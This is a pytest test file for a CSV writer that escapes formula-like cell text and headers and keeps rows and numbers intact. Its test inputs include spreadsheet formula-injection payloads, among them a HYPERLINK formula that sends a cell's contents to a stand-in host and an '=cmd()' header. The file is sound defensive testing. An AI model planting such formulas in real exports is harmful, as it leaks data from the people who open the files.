"""Claims about tables for spreadsheets: users' text stays text, and numbers stay numbers."""

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from connectors.documents.spreadsheet import spreadsheet_csv, write_spreadsheet_csv


def test_a_table_without_rows_keeps_its_header() -> None:
    assert spreadsheet_csv(pd.DataFrame({"campaign": [], "value": []})) == "campaign,value\n"


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", '=HYPERLINK("http://x?"&A1,"y")', "=a,b\n=c"],
)
def test_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    written = spreadsheet_csv(pd.DataFrame({"campaign": [text]}))
    ((cell,),) = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert cell == f"'{text}"


@pytest.mark.parametrize("text", ["Spring = new", "a-b", "me@example.com", "1+1", "", "'=1"])
def test_other_text_stays_as_it_is(text: str) -> None:
    written = spreadsheet_csv(pd.DataFrame({"campaign": [text], "n": [1]}))
    assert list(csv.reader(io.StringIO(written, newline="")))[1] == [text, "1"]


def test_a_carriage_return_begins_no_new_row() -> None:
    """Written as it is, it would: spreadsheet programs take it for the end of a row."""
    frame = pd.DataFrame({"campaign": ["a\r=1", "\r=1", "b\r\nc"]})
    rows = list(csv.reader(io.StringIO(spreadsheet_csv(frame), newline="")))
    assert rows == [["campaign"], ["a\n=1"], ["'\n=1"], ["b\nc"]]


def test_a_header_that_begins_like_a_formula_gets_an_apostrophe_too() -> None:
    assert spreadsheet_csv(pd.DataFrame({"=cmd()": [1]})) == "'=cmd()\n1\n"


def test_a_negative_amount_is_no_formula_and_what_is_missing_is_blank() -> None:
    frame = pd.DataFrame({"amount": [-1.5, float("nan")], "campaign": ["a", None]})
    assert spreadsheet_csv(frame) == "amount,campaign\n-1.5,a\n,\n"


def test_excel_reads_the_file_as_utf_8_and_each_row_as_one(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    write_spreadsheet_csv(pd.DataFrame({"campaign": ["Frühling €", "b"]}), path)
    assert path.read_bytes() == "campaign\nFrühling €\nb\n".encode("utf-8-sig")
